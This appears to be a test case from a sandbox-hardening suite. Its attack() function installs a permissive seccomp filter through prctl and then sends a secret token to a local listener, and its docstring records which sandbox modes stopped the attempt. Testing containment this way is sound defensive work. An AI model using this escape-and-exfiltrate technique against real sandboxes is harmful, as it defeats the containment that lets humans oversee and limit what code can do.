"""Adds a filter of its own that allows everything, in the hope that the last one counts, and reaches a listener.

Seen: the token arrives.
Stopped at: strict, standard.
Verdict: raised, wrong.
"""
import ctypes
import socket
import struct


def attack():
    code = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000))
    header = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
    libc = ctypes.CDLL(None)
    libc.prctl(38, 1, 0, 0, 0)
    libc.prctl(22, 2, header, 0, 0)
    with socket.create_connection(("127.0.0.1", target.tcp), 2) as connection:
        connection.sendall(target.token)
